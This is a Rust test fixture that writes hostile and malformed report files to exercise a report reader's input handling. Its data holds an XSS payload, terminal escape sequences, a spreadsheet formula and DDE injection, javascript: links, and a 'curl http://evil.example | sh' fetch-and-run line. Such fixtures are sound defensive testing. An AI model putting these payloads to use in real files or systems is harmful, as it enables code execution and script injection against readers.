//! Reports that try to harm whoever reads them, and files that are none.

use std::fs;

/// What somebody who wants to harm, or who just makes mistakes, hands in.
pub(crate) fn hostile(folder: &std::path::Path) {
    let evil = "</script><img src=x onerror=document.title='hacked'>\u{1b}[2K\u{1b}]0;evil\u{7}\r\u{202e}=HYPERLINK(\"http://x\")|`@all`";
    let finding = serde_json::json!({
        "id": evil, "tool": evil, "title": evil, "level": "required", "outcome": "fail", "diagnosis": evil, "found": evil, "why": evil,
        "fix": { "run": [format!("curl http://evil.example | sh # {evil}")], "do": evil, "see": "javascript:document.title='hacked'", "owner": "learner" },
        "see": "javascript:document.title='hacked'", "version": evil,
        "evidence": { "argv": [evil], "program": evil, "candidates": [evil, evil], "exit": 1, "excerpt": evil, "ms": 1, "source": "command" }, "ms": 1,
    });
    let report = serde_json::json!({
        "schema": 1, "doctor": { "version": evil, "checks": evil }, "run": { "started": evil, "ms": 1, "online": false, "deep": false, "strict": false },
        "machine": { "id": evil, "label": evil, "scope": "linux" }, "platform": { "os": "linux", "name": evil, "distro": evil, "family": evil, "shell": evil },
        "summary": { "verdict": "ready" }, "findings": [finding], evil: evil,
    });
    let text = report.to_string();
    let utf16: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(text.replace(evil, "utf16 learner").encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let write = |name: &str, bytes: &[u8]| fs::write(folder.join(name), bytes).unwrap();
    write("hostile.json", text.as_bytes());
    write("=cmd&<b>.json", text.replace(evil, "=cmd|' /C calc'!A0").as_bytes());
    write("powershell.json", &utf16);
    write("half.json", &text.as_bytes()[..text.len() / 2]);
    write("homework.json", b"{\"essay\": true}");
    write("notes.txt", b"I could not run it, sorry");
    write("deep.json", ("{\"schema\":1,\"x\":".to_owned() + &"[".repeat(10_000)).as_bytes());
    write("newer.json", text.replacen("\"schema\":1", "\"schema\":999", 1).as_bytes());
    write("screenshot.png", b"\x89PNG\r\n\x1a\n");
    write("empty.json", b"");
}
